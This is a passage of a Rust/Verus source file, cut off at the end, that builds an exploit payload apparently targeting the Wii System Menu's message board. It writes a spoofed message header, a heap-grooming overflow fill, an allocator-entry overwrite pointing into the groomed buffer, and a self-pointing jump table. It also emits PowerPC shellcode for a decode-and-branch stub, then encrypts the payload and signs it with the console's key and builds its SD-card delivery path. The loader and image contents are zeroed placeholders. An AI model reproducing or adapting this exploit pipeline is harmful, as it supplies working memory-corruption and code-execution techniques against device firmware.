//! The payload pipeline: header writer, heap-grooming overflow fill,
//! shellcode assembler, envelope finalizer and the build orchestrator.
//!
//! Every stage's effect on the output buffer is specified as a chain of
//! `splice` operations at fixed offsets, so the final contents are pinned
//! byte by byte as a function of the three build inputs.

use vstd::prelude::*;

use crate::buffer::{
    be32, be64, group_splice_axioms, read_be32, read_be_u32_at, splice, write_be_u32_at,
    write_be_u64_at, write_bytes_at, write_u8_at,
};
use crate::consts::{
    BUFFER_SIZE, FILE_EXTENSION, FOLDER_ID, FOLDER_TYPE, STRLEN, SysMenuVars, TICKS_PER_SECOND,
    spec_sysmenu_vars, sysmenu_vars,
};
use crate::crypto::{
    aes128_cbc_encrypt, aes128_cbc_of, crc32_iso_hdlc, crc32_of, hmac_sha1, hmac_sha1_of, sha1_of,
};
use crate::date::{Date, spec_cdb_time};
use crate::error::BuildPayloadError;
use crate::strings::{append_dec, append_dec_bytes, append_hex8, ascii_bytes, ascii_str_bytes,
    spec_dec, spec_hex8};
use crate::types::{MacAddress, PayloadWriter, WiiId};

verus! {

/// Byte length of the trailing image blob.
pub const ENVELOPE_LEN: usize = 6304;

/// Byte length of the embedded loader program.
pub const LOADER_LEN: usize = 788;

/// End (exclusive) of the heap-grooming fill: 0x8000 bytes short of the
/// buffer end.
pub const GROOM_END: usize = 173056;

/// Start of the heap-grooming fill.
pub const GROOM_START: usize = 0x568;

/// The trailing image blob. Its contents are opaque data to the builder:
/// only its exact length enters the layout, so it is held as a zero-filled
/// block of that length.
pub open spec fn envelope_seq() -> Seq<u8> {
    Seq::new(ENVELOPE_LEN as nat, |i: int| 0u8)
}

pub fn envelope_bytes() -> (r: Vec<u8>)
    ensures
        r@ == envelope_seq(),
{
    let r = vec![0u8; ENVELOPE_LEN];
    assert(r@ =~= envelope_seq());
    r
}

/// The embedded loader program that the stub decodes on the target. Like
/// the image blob, its contents are opaque data: only its exact length
/// enters the layout.
pub open spec fn loader_seq() -> Seq<u8> {
    Seq::new(LOADER_LEN as nat, |i: int| 0u8)
}

pub fn loader_bytes() -> (r: Vec<u8>)
    ensures
        r@ == loader_seq(),
{
    let r = vec![0u8; LOADER_LEN];
    assert(r@ =~= loader_seq());
    r
}

/// Writes the characters of an ASCII string as their bytes at `off`.
fn write_text(buf: &mut Vec<u8>, off: usize, s: &str)
    requires
        s.is_ascii(),
        off + s@.len() <= old(buf)@.len(),
    ensures
        final(buf)@ == splice(old(buf)@, off as int, ascii_bytes(s@)),
{
    let bytes = ascii_str_bytes(s);
    write_bytes_at(buf, off, bytes.as_slice());
}

/// The attribute header and the body header: fixed metadata at fixed
/// offsets, every field unconditionally overwritten.
pub open spec fn spec_attr_header(s: Seq<u8>, upper: u32, lower: u32, t: u32) -> Seq<u8> {
    let w1 = splice(s, 0x000, ascii_bytes("CDBFILE\x02"@));
    let w2 = splice(w1, 0x008, be32(upper));
    let w3 = splice(w2, 0x00C, be32(lower));
    let w4 = splice(w3, 0x010, seq![0x12u8]);
    let w5 = splice(w4, 0x014, ascii_bytes("ripl_board_record\x00"@));
    let w6 = splice(w5, 0x070, be32(1));
    let w7 = splice(w6, 0x074, be32(1));
    let w8 = splice(w7, 0x07C, be32(t));
    let w9 = splice(w8, 0x400, be32(0x5249_5F35));
    let w10 = splice(w9, 0x40C, be32(1));
    let w11 = splice(w10, 0x410, be64(((t as u64) * TICKS_PER_SECOND) as u64));
    let w12 = splice(w11, 0x418, ascii_bytes("w9999999900000000@wii.com\x00"@));
    splice(w12, 0x518, be32(0x0002_0001))
}

/// Fills the attribute header (identity words, description, timestamps) and
/// the body header (magic, type flag, sent time, sender, flags).
pub fn add_cdb_attr_header(buf: &mut Vec<u8>, wii_id: &WiiId, cdb_time: u32)
    requires
        old(buf)@.len() == BUFFER_SIZE,
    ensures
        final(buf)@ == spec_attr_header(old(buf)@, wii_id.upper, wii_id.lower, cdb_time),
        final(buf)@.len() == BUFFER_SIZE,
{
    broadcast use group_splice_axioms;

    proof {
        reveal_strlit("CDBFILE\x02");
        reveal_strlit("ripl_board_record\x00");
        reveal_strlit("w9999999900000000@wii.com\x00");
        assert("CDBFILE\x02"@.len() == 8);
        assert("ripl_board_record\x00"@.len() == 18);
        assert("w9999999900000000@wii.com\x00"@.len() == 26);
        assert(is_ascii_str("CDBFILE\x02"));
        assert(is_ascii_str("ripl_board_record\x00"));
        assert(is_ascii_str("w9999999900000000@wii.com\x00"));
    }
    write_text(buf, 0x000, "CDBFILE\x02");
    write_be_u32_at(buf, 0x008, wii_id.upper);
    write_be_u32_at(buf, 0x00C, wii_id.lower);
    write_u8_at(buf, 0x010, 0x12);
    write_text(buf, 0x014, "ripl_board_record\x00");
    write_be_u32_at(buf, 0x070, 1);
    write_be_u32_at(buf, 0x074, 1);
    write_be_u32_at(buf, 0x07C, cdb_time);
    write_be_u32_at(buf, 0x400, 0x5249_5F35);
    write_be_u32_at(buf, 0x40C, 1);
    write_be_u64_at(buf, 0x410, (cdb_time as u64) * TICKS_PER_SECOND);
    write_text(buf, 0x418, "w9999999900000000@wii.com\x00");
    write_be_u32_at(buf, 0x518, 0x0002_0001);
}

/// `str::is_ascii` as a spec shorthand.
pub open spec fn is_ascii_str(s: &str) -> bool {
    vstd::string::is_ascii(s)
}

/// The grooming value of stride `k`: starts at 0x01010101 and climbs by
/// 0x100000 per stride, wrapping at 32 bits.
pub open spec fn groom_val(k: int) -> u32
    decreases k,
{
    if k <= 0 {
        0x01010101u32
    } else {
        vstd::wrapping::u32_specs::wrapping_add(groom_val(k - 1), 0x100000)
    }
}

/// A stride is written only when neither halfword of its value is zero: the
/// target treats zero halfwords specially, and the stub loader stops at the
/// literal 0x01010101, so neither may appear by accident.
pub open spec fn groom_keep(v: u32) -> bool {
    v & 0xffff != 0 && (v >> 16) & 0xffff != 0
}

/// One byte of the buffer after the grooming fill: inside the fill region,
/// byte `t` of the big-endian stride value where the stride is kept, the
/// old byte everywhere else.
pub open spec fn groom_byte(s: Seq<u8>, j: int) -> u8 {
    if GROOM_START <= j < GROOM_END {
        let k = (j - GROOM_START) / 4;
        let t = (j - GROOM_START) % 4;
        if groom_keep(groom_val(k)) {
            be32(groom_val(k))[t]
        } else {
            s[j]
        }
    } else {
        s[j]
    }
}

/// The buffer after the grooming fill.
pub open spec fn spec_groom(s: Seq<u8>) -> Seq<u8> {
    Seq::new(s.len(), |j: int| groom_byte(s, j))
}

/// Fills the grooming region in four-byte strides, skipping every stride
/// whose value has a zero halfword.
pub fn overflow_buffer(buf: &mut Vec<u8>)
    requires
        old(buf)@.len() == BUFFER_SIZE,
    ensures
        final(buf)@ == spec_groom(old(buf)@),
{
    broadcast use group_splice_axioms;

    let mut i: usize = GROOM_START;
    let mut val: u32 = 0x01010101;
    let ghost mut k: int = 0;
    while i < GROOM_END
        invariant
            buf@.len() == BUFFER_SIZE,
            old(buf)@.len() == BUFFER_SIZE,
            GROOM_START <= i <= GROOM_END,
            i == GROOM_START + 4 * k,
            0 <= k,
            val == groom_val(k),
            forall|j: int|
                0 <= j < BUFFER_SIZE ==> buf@[j] == (if GROOM_START <= j < i {
                    groom_byte(old(buf)@, j)
                } else {
                    old(buf)@[j]
                }),
        decreases GROOM_END - i,
    {
        let ghost before = buf@;
        let low = val & 0xffff;
        let high = (val >> 16) & 0xffff;
        if low != 0 && high != 0 {
            write_be_u32_at(buf, i, val);
        }
        proof {
            assert forall|j: int|
                0 <= j < BUFFER_SIZE implies buf@[j] == (if GROOM_START <= j < i + 4 {
                groom_byte(old(buf)@, j)
            } else {
                old(buf)@[j]
            }) by {
                if i <= j < i + 4 {
                    vstd::arithmetic::div_mod::lemma_fundamental_div_mod_converse(
                        j - GROOM_START as int,
                        4,
                        k,
                        j - i,
                    );
                    assert((j - GROOM_START) / 4 == k && (j - GROOM_START) % 4 == j - i);
                }
            }
            k = k + 1;
        }
        val = val.wrapping_add(0x100000);
        i = i + 4;
    }
    assert(buf@ =~= spec_groom(old(buf)@));
}

/// Each character as a big-endian 16-bit word, with a 16-bit terminator.
pub open spec fn spec_u16be_chars(cs: Seq<char>) -> Seq<u8> {
    Seq::new(
        2 * cs.len() + 2,
        |j: int|
            if j % 2 == 0 {
                0u8
            } else if j < 2 * cs.len() {
                cs[j / 2] as u8
            } else {
                0u8
            },
    )
}

/// Writes each character of `s` as a big-endian 16-bit word at `off`,
/// followed by a 16-bit terminator.
pub fn put_u16_str(buf: &mut Vec<u8>, off: usize, s: &str)
    requires
        s.is_ascii(),
        off + 2 * s@.len() + 2 <= old(buf)@.len(),
    ensures
        final(buf)@ == splice(old(buf)@, off as int, spec_u16be_chars(s@)),
{
    let n = s.unicode_len();
    let mut v: Vec<u8> = Vec::new();
    let mut i: usize = 0;
    while i < n
        invariant
            n == s@.len(),
            s.is_ascii(),
            off + 2 * n + 2 <= old(buf)@.len(),
            0 <= i <= n,
            v@.len() == 2 * i,
            forall|j: int| 0 <= j < 2 * i ==> v@[j] == spec_u16be_chars(s@)[j],
        decreases n - i,
    {
        v.push(0);
        v.push(s.get_ascii(i));
        i = i + 1;
    }
    v.push(0);
    v.push(0);
    assert(v@ =~= spec_u16be_chars(s@));
    write_bytes_at(buf, off, v.as_slice());
}

/// The loader, each byte masked with the big-endian byte of the jump
/// address at its position modulo four. Reading a little-endian word,
/// XOR-ing it with the big-endian-interpreted key and writing it back
/// little-endian comes to exactly this byte-wise masking, which is what the
/// stub's decode loop undoes on the target.
pub open spec fn xored_loader(key: u32) -> Seq<u8> {
    Seq::new(LOADER_LEN as nat, |i: int| loader_seq()[i] ^ be32(key)[i % 4])
}

/// The stub loader and its trailing data: twenty fixed machine words (a
/// position-independent copy-and-decode loop ending in a branch to
/// 0x93000000), eleven masked words (the file-struct version tag and the
/// ten routine addresses of the profile), the masked loader, a four-byte
/// gap, and the 0x01010101 sentinel that stops the decode loop.
/// The first sixteen machine words of the stub.
#[verifier::opaque]
pub open spec fn spec_stub_words_a(s: Seq<u8>) -> Seq<u8> {
    let base = (0x568 + STRLEN) as int;
    let s0 = splice(s, base, be32(0x3FA00101));
    let s1 = splice(s0, base + 4, be32(0x3BBD0101));
    let s2 = splice(s1, base + 8, be32(0x3B800050));
    let s3 = splice(s2, base + 12, be32(0x3de092ff));
    let s4 = splice(s3, base + 16, be32(0x61efffd4));
    let s5 = splice(s4, base + 20, be32(0x7DDC7850));
    let s6 = splice(s5, base + 24, be32(0x7CACE02E));
    let s7 = splice(s6, base + 28, be32(0x7CA66278));
    let s8 = splice(s7, base + 32, be32(0x7CCEE12E));
    let s9 = splice(s8, base + 36, be32(0x7C0EE06C));
    let s10 = splice(s9, base + 40, be32(0x7C0004AC));
    let s11 = splice(s10, base + 44, be32(0x7C0EE7AC));
    let s12 = splice(s11, base + 48, be32(0x7C05E800));
    let s13 = splice(s12, base + 52, be32(0x3B9C0004));
    let s14 = splice(s13, base + 56, be32(0x40a2ffe0));
    splice(s14, base + 60, be32(0x7C0004AC))
}

/// The rest of the stub words: the tail of the decode loop and the eleven
/// masked words.
#[verifier::opaque]
pub open spec fn spec_stub_words_b(s: Seq<u8>, vars: SysMenuVars) -> Seq<u8> {
    let base = (0x568 + STRLEN) as int;
    let key = vars.jump_addr;
    let s16 = splice(s, base + 64, be32(0x4C00012C));
    let s17 = splice(s16, base + 68, be32(0x3D809300));
    let s18 = splice(s17, base + 72, be32(0x7D8903A6));
    let s19 = splice(s18, base + 76, be32(0x4E800420));
    let s20 = splice(s19, base + 80, be32(vars.file_struct_version ^ key));
    let s21 = splice(s20, base + 84, be32(vars.os_return_to_menu ^ key));
    let s22 = splice(s21, base + 88, be32(vars.os_stop_audio_system ^ key));
    let s23 = splice(s22, base + 92, be32(vars.gx_abort ^ key));
    let s24 = splice(s23, base + 96, be32(vars.vfsys_open_file_current ^ key));
    let s25 = splice(s24, base + 100, be32(vars.vfsys_read_file ^ key));
    let s26 = splice(s25, base + 104, be32(vars.os_unregister_state_event ^ key));
    let s27 = splice(s26, base + 108, be32(vars.vi_set_black ^ key));
    let s28 = splice(s27, base + 112, be32(vars.vi_flush ^ key));
    let s29 = splice(s28, base + 116, be32(vars.vfpvol_get_volume ^ key));
    splice(s29, base + 120, be32(vars.vfpvol_set_current_volume ^ key))
}

/// All thirty-one stub words.
pub open spec fn spec_stub_words(s: Seq<u8>, vars: SysMenuVars) -> Seq<u8> {
    spec_stub_words_b(spec_stub_words_a(s), vars)
}

/// The stub region as a whole: the thirty-one words, the masked loader and,
/// after a four-byte gap, the sentinel.
pub open spec fn spec_stub(s: Seq<u8>, vars: SysMenuVars) -> Seq<u8> {
    let base = (0x568 + STRLEN) as int;
    let sl = splice(spec_stub_words(s, vars), base + 124, xored_loader(vars.jump_addr));
    splice(sl, base + 916, be32(0x01010101))
}

/// Emits the twenty fixed machine words and the eleven masked words.
#[verifier::rlimit(100)]
fn emit_stub_words(p: &mut PayloadWriter, buf: &mut Vec<u8>, vars: &SysMenuVars)
    requires
        old(buf)@.len() == BUFFER_SIZE,
        old(p).base == 0x568 + STRLEN,
        old(p).offset == 0,
        old(p).xor_key == vars.jump_addr,
    ensures
        final(buf)@ == spec_stub_words(old(buf)@, *vars),
        final(buf)@.len() == BUFFER_SIZE,
        final(p).base == old(p).base,
        final(p).offset == 124,
        final(p).xor_key == old(p).xor_key,
{
    broadcast use group_splice_axioms;

    emit_stub_words_a(p, buf);
    emit_stub_words_b(p, buf, vars);
}

/// Emits the first sixteen machine words of the decode loop.
#[verifier::rlimit(100)]
fn emit_stub_words_a(p: &mut PayloadWriter, buf: &mut Vec<u8>)
    requires
        old(buf)@.len() == BUFFER_SIZE,
        old(p).base == 0x568 + STRLEN,
        old(p).offset == 0,
    ensures
        final(buf)@ == spec_stub_words_a(old(buf)@),
        final(buf)@.len() == BUFFER_SIZE,
        final(p).base == old(p).base,
        final(p).offset == 64,
        final(p).xor_key == old(p).xor_key,
{
    proof {
        reveal(spec_stub_words_a);
    }
    p.l(buf, 0x3FA00101);  // lis r29, 0x101
    p.l(buf, 0x3BBD0101);  // addi r29, r29, 0x101: r29 = the sentinel
    p.l(buf, 0x3B800050);  // li r28, 0x50: offset of the data to copy
    p.l(buf, 0x3de092ff);  // lis r15, 0x92ff
    p.l(buf, 0x61efffd4);  // ori r15, r15, 0xffd4: copy destination end
    p.l(buf, 0x7DDC7850);  // sub r14, r15, r28: destination minus offset
    p.l(buf, 0x7CACE02E);  // lwzx r5, r12, r28: load a masked word
    p.l(buf, 0x7CA66278);  // xor r6, r5, r12: unmask it
    p.l(buf, 0x7CCEE12E);  // stwx r6, r14, r28: store it
    p.l(buf, 0x7C0EE06C);  // dcbst r14, r28
    p.l(buf, 0x7C0004AC);  // sync
    p.l(buf, 0x7C0EE7AC);  // icbi r14, r28
    p.l(buf, 0x7C05E800);  // cmpw r5, r29: sentinel reached?
    p.l(buf, 0x3B9C0004);  // addi r28, r28, 4
    p.l(buf, 0x40a2ffe0);  // bne- back to the load
    p.l(buf, 0x7C0004AC);  // sync
}

/// Emits the branch to the decoded program and the eleven masked words.
#[verifier::rlimit(100)]
fn emit_stub_words_b(p: &mut PayloadWriter, buf: &mut Vec<u8>, vars: &SysMenuVars)
    requires
        old(buf)@.len() == BUFFER_SIZE,
        old(p).base == 0x568 + STRLEN,
        old(p).offset == 64,
        old(p).xor_key == vars.jump_addr,
    ensures
        final(buf)@ == spec_stub_words_b(old(buf)@, *vars),
        final(buf)@.len() == BUFFER_SIZE,
        final(p).base == old(p).base,
        final(p).offset == 124,
        final(p).xor_key == old(p).xor_key,
{
    proof {
        reveal(spec_stub_words_b);
    }
    p.l(buf, 0x4C00012C);  // isync
    p.l(buf, 0x3D809300);  // lis r12, 0x9300
    p.l(buf, 0x7D8903A6);  // mtctr r12
    p.l(buf, 0x4E800420);  // bctr: run the decoded program
    p.x(buf, vars.file_struct_version);
    p.x(buf, vars.os_return_to_menu);
    p.x(buf, vars.os_stop_audio_system);
    p.x(buf, vars.gx_abort);
    p.x(buf, vars.vfsys_open_file_current);
    p.x(buf, vars.vfsys_read_file);
    p.x(buf, vars.os_unregister_state_event);
    p.x(buf, vars.vi_set_black);
    p.x(buf, vars.vi_flush);
    p.x(buf, vars.vfpvol_get_volume);
    p.x(buf, vars.vfpvol_set_current_volume);
}

/// Emits the stub loader, the masked pointer words, the masked loader and
/// the sentinel, sequentially from the fixed base.
#[verifier::rlimit(60)]
fn emit_stub(buf: &mut Vec<u8>, vars: &SysMenuVars)
    requires
        old(buf)@.len() == BUFFER_SIZE,
    ensures
        final(buf)@ == spec_stub(old(buf)@, *vars),
        final(buf)@.len() == BUFFER_SIZE,
{
    broadcast use group_splice_axioms;

    let ghost key = vars.jump_addr;
    let mut p = PayloadWriter::new(0x568 + STRLEN, vars.jump_addr);
    emit_stub_words(&mut p, buf, vars);

    let ghost s30 = buf@;
    let ghost lbase = (0x568 + STRLEN + 124) as int;
    let loader = loader_bytes();
    let key_bytes = crate::buffer::be_u32_vec(vars.jump_addr);
    let mut c: usize = 0;
    assert(buf@ =~= splice(s30, lbase, xored_loader(key).take(0)));
    while c < 197
        invariant
            0 <= c <= 197,
            p.base == 0x568 + STRLEN,
            p.offset == 124 + 4 * c,
            p.xor_key == key,
            key == vars.jump_addr,
            loader@ == loader_seq(),
            key_bytes@ == be32(key),
            s30.len() == BUFFER_SIZE,
            lbase == 0x568 + STRLEN + 124,
            buf@.len() == BUFFER_SIZE,
            buf@ == splice(s30, lbase, xored_loader(key).take(4 * c)),
        decreases 197 - c,
    {
        let mut chunk: Vec<u8> = Vec::new();
        chunk.push(loader[4 * c] ^ key_bytes[0]);
        chunk.push(loader[4 * c + 1] ^ key_bytes[1]);
        chunk.push(loader[4 * c + 2] ^ key_bytes[2]);
        chunk.push(loader[4 * c + 3] ^ key_bytes[3]);
        proof {
            assert forall|t: int| 0 <= t < 4 implies xored_loader(key)[4 * c + t] == chunk@[t] by {
                vstd::arithmetic::div_mod::lemma_fundamental_div_mod_converse(
                    4 * c + t,
                    4,
                    c as int,
                    t,
                );
                assert((4 * c + t) % 4 == t);
            }
            assert(chunk@ =~= xored_loader(key).subrange(4 * c, 4 * c + 4));
        }
        let ghost pre = buf@;
        p.write_raw(buf, chunk.as_slice());
        proof {
            crate::buffer::lemma_splice_adjacent(
                s30,
                lbase,
                xored_loader(key).take(4 * c),
                chunk@,
            );
            assert(xored_loader(key).take(4 * c) + chunk@ =~= xored_loader(key).take(4 * (c + 1)));
        }
        c = c + 1;
    }
    assert(xored_loader(key).take(788int) =~= xored_loader(key));
    p.increment_offset(4);
    p.l(buf, 0x01010101);  // the sentinel ends the decode loop
    assert(buf@ == spec_stub(old(buf)@, *vars));
}

/// Everything the shellcode-assembly stage writes, up to but not including
/// the checksum: body-header offsets, the title, the grooming fill, the
/// allocator-entry words and the overwrite target, the self-referential
/// jump table, the stub, and the trailing image with its three descriptor
/// fields.
pub open spec fn spec_stuff_precrc(s: Seq<u8>, vars: SysMenuVars) -> Seq<u8> {
    let b1 = splice(s, 0x51C, be32(0x148));
    let b2 = splice(b1, 0x520, be32(0x168));
    let b3 = splice(b2, 0x548, spec_u16be_chars("   "@));
    let b4 = spec_groom(b3);
    let b5 = splice(b4, 0x344C, be32(0x80F80001));
    let b6 = splice(b5, 0x3450, be32(0x00010001));
    let b7 = splice(b6, 0x3454, be32(vars.overwrite_addr));
    let b8 = splice(b7, 0x3458, be32(vars.overwrite_addr));
    let b9 = splice(b8, 0xD360, be32(vars.jump_table_addr));
    let b10 = splice(b9, 0xD36C, be32(vars.jump_addr));
    let b11 = spec_stub(b10, vars);
    let e1 = splice(b11, 0x528, be32(2));
    let e2 = splice(e1, 0x52C, be32((BUFFER_SIZE - ENVELOPE_LEN - 0x400) as u32));
    let e3 = splice(e2, 0x530, be32(ENVELOPE_LEN as u32));
    splice(e3, (BUFFER_SIZE - ENVELOPE_LEN) as int, envelope_seq())
}

/// The shellcode-assembly stage, checksum included: the CRC-32 of the
/// 0x140 bytes from 0x400 lands at 0x540.
pub open spec fn spec_add_stuff(s: Seq<u8>, vars: SysMenuVars) -> Seq<u8> {
    let e = spec_stuff_precrc(s, vars);
    splice(e, 0x540, be32(crc32_of(e.subrange(0x400, 0x540))))
}

/// Writes the exploit body: offsets, title, grooming fill, overwrite
/// words, jump table, stub, trailing image, checksum.
#[verifier::rlimit(60)]
pub fn add_stuff(buf: &mut Vec<u8>, vars: &SysMenuVars)
    requires
        old(buf)@.len() == BUFFER_SIZE,
    ensures
        final(buf)@ == spec_add_stuff(old(buf)@, *vars),
        final(buf)@.len() == BUFFER_SIZE,
{
    broadcast use group_splice_axioms;

    proof {
        reveal_strlit("   ");
        assert("   "@.len() == 3);
        assert(is_ascii_str("   "));
    }
    write_be_u32_at(buf, 0x51C, 0x148);  // description offset
    write_be_u32_at(buf, 0x520, 0x168);  // body offset
    put_u16_str(buf, 0x548, "   ");  // the title: three spaces
    overflow_buffer(buf);
    write_be_u32_at(buf, 0x344C, 0x80F80001);
    write_be_u32_at(buf, 0x3450, 0x00010001);
    // overwrite an allocator entry with a stack address: the next allocation
    // after the overflow redirects a stack value into the groomed buffer
    write_be_u32_at(buf, 0x3454, vars.overwrite_addr);
    write_be_u32_at(buf, 0x3458, vars.overwrite_addr);
    // read by the target as a jump table that points to itself
    write_be_u32_at(buf, 0x568 + 0xcdf8, vars.jump_table_addr);
    write_be_u32_at(buf, 0x568 + 0xcdf8 + 0xc, vars.jump_addr);
    emit_stub(buf, vars);
    // the trailing image and its type, offset and length descriptor fields
    let tmg_loc = BUFFER_SIZE - ENVELOPE_LEN;
    write_be_u32_at(buf, 0x528, 2);
    write_be_u32_at(buf, 0x52C, (tmg_loc - 0x400) as u32);
    write_be_u32_at(buf, 0x530, ENVELOPE_LEN as u32);
    let envelope = envelope_bytes();
    write_bytes_at(buf, tmg_loc, envelope.as_slice());
    // the checksum over the body-header region
    let region = vstd::slice::slice_subrange(buf.as_slice(), 0x400, 0x540);
    let checksum = crc32_iso_hdlc(region);
    write_be_u32_at(buf, 0x540, checksum);
}

/// The all-zero 16-byte cipher key.
pub open spec fn zero_key_seq() -> Seq<u8> {
    Seq::new(16, |i: int| 0u8)
}

/// The 16-byte initialization vector: the word 0x12345678 little-endian,
/// four times over.
pub open spec fn iv_seq() -> Seq<u8> {
    Seq::new(
        16,
        |i: int|
            if i % 4 == 0 {
                0x78u8
            } else if i % 4 == 1 {
                0x56u8
            } else if i % 4 == 2 {
                0x34u8
            } else {
                0x12u8
            },
    )
}

/// The initialization vector written at 0xA0.
pub fn make_iv() -> (r: Vec<u8>)
    ensures
        r@ == iv_seq(),
{
    let mut iv: Vec<u8> = Vec::new();
    let mut c: usize = 0;
    while c < 4
        invariant
            0 <= c <= 4,
            iv@.len() == 4 * c,
            forall|j: int| 0 <= j < 4 * c ==> iv@[j] == iv_seq()[j],
        decreases 4 - c,
    {
        iv.push(0x78);
        iv.push(0x56);
        iv.push(0x34);
        iv.push(0x12);
        proof {
            assert forall|j: int| 0 <= j < 4 * (c + 1) implies iv@[j] == iv_seq()[j] by {
                if 4 * c <= j {
                    vstd::arithmetic::div_mod::lemma_fundamental_div_mod_converse(
                        j,
                        4,
                        c as int,
                        j - 4 * c,
                    );
                    assert(j % 4 == j - 4 * c);
                }
            }
        }
        c = c + 1;
    }
    assert(iv@ =~= iv_seq());
    iv
}

/// The key string written at 0x80: the timestamp as ten decimal digits,
/// then the folder identifier, the file extension and the folder type,
/// truncated to 26 bytes.
pub open spec fn key_string_bytes(t: u32) -> Seq<u8> {
    (ascii_bytes(spec_dec(t as int, 10)) + ascii_bytes("_"@) + ascii_bytes(FOLDER_ID@)
        + ascii_bytes("_"@) + ascii_bytes(FILE_EXTENSION@) + ascii_bytes("."@) + ascii_bytes(
        FOLDER_TYPE@,
    )).take(26)
}

/// The envelope finalizer: the total length at 0x78, the key string at 0x80
/// with its terminator, the IV at 0xA0, the body encrypted in place from
/// 0x400 with the all-zero key, and the authentication tag over the whole
/// encrypted buffer patched in at 0xB0.
pub open spec fn spec_encrypt_sign(s: Seq<u8>, mac_key: Seq<u8>) -> Seq<u8> {
    let f5 = pre_sign(s);
    splice(f5, 0xB0, hmac_sha1_of(mac_key, f5))
}

/// The buffer right before encryption: length, key string, terminator and
/// IV written, body still in the clear.
pub open spec fn pre_encrypt(s: Seq<u8>) -> Seq<u8> {
    let t = read_be32(s, 0x7C);
    let f1 = splice(s, 0x78, be32(s.len() as u32));
    let f2 = splice(f1, 0x80, key_string_bytes(t));
    let f3 = splice(f2, 0x9A, seq![0u8]);
    splice(f3, 0xA0, iv_seq())
}

/// The buffer right before signing: encrypted, tag region still as the
/// pre-encryption buffer (and so still zero-filled in a fresh build).
pub open spec fn pre_sign(s: Seq<u8>) -> Seq<u8> {
    let f4 = pre_encrypt(s);
    splice(f4, 0x400, aes128_cbc_of(zero_key_seq(), iv_seq(), f4.subrange(0x400, f4.len() as int)))
}

/// Appends the ASCII bytes of `s`.
fn append_ascii(out: &mut Vec<u8>, s: &str)
    requires
        s.is_ascii(),
    ensures
        final(out)@ == old(out)@ + ascii_bytes(s@),
{
    let mut b = ascii_str_bytes(s);
    out.append(&mut b);
}

/// Writes the length, the key string, the IV, encrypts the body and signs
/// the result: the envelope finalizer.
#[verifier::rlimit(60)]
pub fn encrypt_and_sign(buf: &mut Vec<u8>, wii_id: &WiiId) -> (r: Result<(), BuildPayloadError>)
    requires
        old(buf)@.len() == BUFFER_SIZE,
        wii_id@.len() >= 8,
    ensures
        r is Ok,
        final(buf)@ == spec_encrypt_sign(old(buf)@, wii_id@.skip(8)),
        final(buf)@.len() == BUFFER_SIZE,
{
    broadcast use group_splice_axioms;

    proof {
        reveal_strlit("_");
        reveal_strlit(".");
        reveal_strlit("PUNE_69");
        reveal_strlit("000");
        reveal_strlit("log");
        assert(is_ascii_str("_") && is_ascii_str(".") && is_ascii_str(FOLDER_ID) && is_ascii_str(
            FILE_EXTENSION,
        ) && is_ascii_str(FOLDER_TYPE));
    }
    let buf_size = buf.len() as u32;
    write_be_u32_at(buf, 0x78, buf_size);

    // the timestamp already stored big-endian at 0x7C feeds the key string
    let time_be = read_be_u32_at(buf.as_slice(), 0x7C);
    assert(time_be == read_be32(old(buf)@, 0x7C));

    let mut ks: Vec<u8> = Vec::new();
    append_dec_bytes(&mut ks, time_be, 10);
    append_ascii(&mut ks, "_");
    append_ascii(&mut ks, FOLDER_ID);
    append_ascii(&mut ks, "_");
    append_ascii(&mut ks, FILE_EXTENSION);
    append_ascii(&mut ks, ".");
    append_ascii(&mut ks, FOLDER_TYPE);
    proof {
        lemma_spec_dec_len(time_be as int, 10);
        assert(ks@.len() == 26);
        assert(ks@ =~= key_string_bytes(time_be));
    }
    let len = if ks.len() < 26 {
        ks.len()
    } else {
        26
    };
    ks.truncate(len);
    assert(ks@ =~= key_string_bytes(time_be));
    write_bytes_at(buf, 0x80, ks.as_slice());
    write_u8_at(buf, 0x80 + len, 0);

    let iv = make_iv();
    write_bytes_at(buf, 0xA0, iv.as_slice());

    let key = vec![0u8; 16];
    assert(key@ =~= zero_key_seq());
    let region = vstd::slice::slice_subrange(buf.as_slice(), 0x400, BUFFER_SIZE);
    let ciphertext = match aes128_cbc_encrypt(key.as_slice(), iv.as_slice(), region) {
        Ok(c) => c,
        Err(e) => {
            return Err(e);
        },
    };
    write_bytes_at(buf, 0x400, ciphertext.as_slice());

    let tag = match hmac_sha1(wii_id.hmac_key(), buf.as_slice()) {
        Ok(t) => t,
        Err(e) => {
            return Err(e);
        },
    };
    write_bytes_at(buf, 0xB0, tag.as_slice());
    Ok(())
}

/// A zero-padded decimal rendering has exactly its requested width.
pub proof fn lemma_spec_dec_len(v: int, width: int)
    requires
        width >= 0,
    ensures
        spec_dec(v, width).len() == width,
    decreases width,
{
    if width > 0 {
        lemma_spec_dec_len(v / 10, width - 1);
    }
}

/// The delivery path: the target's storage hierarchy, down through the two
/// identity words, the date, the fixed delivery time 23:59 and the fixed
/// folder identifier and type.
pub open spec fn spec_path(upper: u32, lower: u32, y: int, m: int, d: int) -> Seq<char> {
    "private/wii/title/HAEA/"@ + spec_hex8(upper) + "/"@ + spec_hex8(lower) + "/"@ + spec_dec(y, 4)
        + "/"@ + spec_dec(m - 1, 2) + "/"@ + spec_dec(d, 2) + "/23/59/"@ + FOLDER_ID@ + "/"@
        + FOLDER_TYPE@
}

/// The file name: the timestamp in hex with the fixed extension.
pub open spec fn spec_file_name(t: u32) -> Seq<char> {
    spec_hex8(t) + "."@ + FILE_EXTENSION@
}

/// Builds the delivery path string for the given identity and date.
fn build_path(upper: u32, lower: u32, date: &Date) -> (r: String)
    requires
        date.wf(),
    ensures
        r@ == spec_path(upper, lower, date.year as int, date.month as int, date.day as int),
{
    let mut s = String::from_str("private/wii/title/HAEA/");
    append_hex8(&mut s, upper);
    s.append("/");
    append_hex8(&mut s, lower);
    s.append("/");
    append_dec(&mut s, date.year as u32, 4);
    s.append("/");
    append_dec(&mut s, (date.month - 1) as u32, 2);
    s.append("/");
    append_dec(&mut s, date.day as u32, 2);
    s.append("/23/59/");
    s.append(FOLDER_ID);
    s.append("/");
    s.append(FOLDER_TYPE);
    assert(s@ == spec_path(upper, lower, date.year as int, date.month as int, date.day as int));
    s
}

/// Builds the file name for the given timestamp.
fn build_file_name(t: u32) -> (r: String)
    ensures
        r@ == spec_file_name(t),
{
    let mut s = String::new();
    append_hex8(&mut s, t);
    s.append(".");
    s.append(FILE_EXTENSION);
    assert(s@ =~= spec_file_name(t));
    s
}

/// The profile with the overwrite target shifted by +0x14 - 0x08: the fixed
/// arithmetic adjustment the corruption path expects.
pub open spec fn spec_adjusted(vars: SysMenuVars) -> SysMenuVars {
